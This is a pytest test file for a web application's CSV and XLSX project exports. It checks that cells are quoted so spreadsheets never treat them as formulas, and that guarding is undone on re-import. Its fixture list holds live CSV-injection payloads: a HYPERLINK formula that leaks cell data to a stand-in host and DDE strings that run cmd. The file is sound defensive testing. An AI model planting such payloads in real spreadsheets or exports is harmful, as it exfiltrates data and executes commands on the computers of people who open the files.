"""Exports never carry a live formula (OWASP CSV injection), and re-import gives back the text."""

from __future__ import annotations

import csv
import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from models.project import Project
from services.imports.formulas import guard, unguard

from ..factories import ProjectFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''double",
]


def upload(client, headers, content: bytes, name: str):
    return client.post("/api/v1/imports/projects", data={"file": (io.BytesIO(content), name)},
                       headers=headers, content_type="multipart/form-data")


@pytest.fixture
def hostile_projects(db, incubator):
    return [ProjectFactory(incubator_id=incubator.id, name=f"项目{i}", description=text)
            for i, text in enumerate(HOSTILE)]


def test_csv_cells_that_would_be_formulas_are_quoted(client, admin_headers, db, hostile_projects):
    # Text stored before input was trimmed may still start with a tab or a carriage return.
    db.execute(sa.update(Project).where(Project.id == hostile_projects[0].id).values(name="\t=1+1"))
    db.flush()
    response = client.get("/api/v1/exports/projects.csv", headers=admin_headers)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header = rows[0]
    cells = [row[header.index("简介")] for row in rows[1:]]
    assert cells == ["'" + text for text in HOSTILE[:4]] + ["''=already quoted", "'''double"]
    assert rows[1][header.index("名称")] == "'\t=1+1"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_xlsx_cells_are_strings_never_formulas(client, admin_headers, hostile_projects):
    response = client.get("/api/v1/exports/projects.xlsx", headers=admin_headers)
    sheet = load_workbook(io.BytesIO(response.data)).worksheets[0]
    header = [c.value for c in sheet[1]]
    column = header.index("简介")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for row in sheet.iter_rows() for c in row} <= {"s", "n"}  # no "f"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reimporting_the_export_gives_back_the_original_text(client, admin_headers, db, hostile_projects, fmt):
    exported = client.get(f"/api/v1/exports/projects.{fmt}", headers=admin_headers).data
    before = {p.id: p.description for p in db.scalars(sa.select(Project))}
    response = upload(client, admin_headers, exported, f"projects.{fmt}")
    assert response.status_code == 200, response.json
    assert response.json["created"] == 0
    db.expire_all()
    assert {p.id: p.description for p in db.scalars(sa.select(Project))} == before


@pytest.mark.parametrize("text", [*HOSTILE, "-3.5", "+86 577 8888", "'", "'plain", "", "普通文字"])
def test_unguard_undoes_guard(text):
    assert unguard(guard(text)) == text
    assert guard("-3.5") == "-3.5" and guard(12) == 12
